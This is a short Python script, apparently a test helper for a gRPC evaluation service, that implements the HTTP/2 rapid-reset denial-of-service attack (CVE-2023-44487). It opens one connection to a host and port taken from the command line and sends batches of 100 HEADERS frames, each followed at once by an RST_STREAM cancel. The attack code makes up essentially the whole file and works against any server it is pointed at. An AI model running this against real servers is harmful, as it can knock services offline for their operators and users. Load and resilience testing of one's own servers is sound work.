"""A client that opens streams and resets each at once, faster than any server answers them (CVE-2023-44487).

Run in a process of its own: `python stream_resetter.py HOST PORT COUNT`.
"""

import socket
import sys
import threading

from http2_stub import CANCEL, END_HEADERS, HEADERS, PREFACE, RST_STREAM, SETTINGS, frame, literals

_AT_A_TIME = 100
_CALL = literals(
    {
        ":method": "POST",
        ":scheme": "http",
        ":path": "/evalrpc.v1.EvaluationService/GetJob",
        ":authority": "localhost",
        "content-type": "application/grpc",
        "te": "trailers",
    }
)


def main(host: str, port: int, count: int) -> None:
    connection = socket.create_connection((host, port))
    threading.Thread(target=_read_all, args=[connection], daemon=True).start()
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    for first in range(0, count, _AT_A_TIME):
        connection.sendall(b"".join(_opened_and_reset(2 * number + 1) for number in range(first, first + _AT_A_TIME)))


def _opened_and_reset(stream: int) -> bytes:
    return frame(HEADERS, END_HEADERS, stream, _CALL) + frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4))


def _read_all(connection: socket.socket) -> None:
    while connection.recv(65536):
        pass


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]))
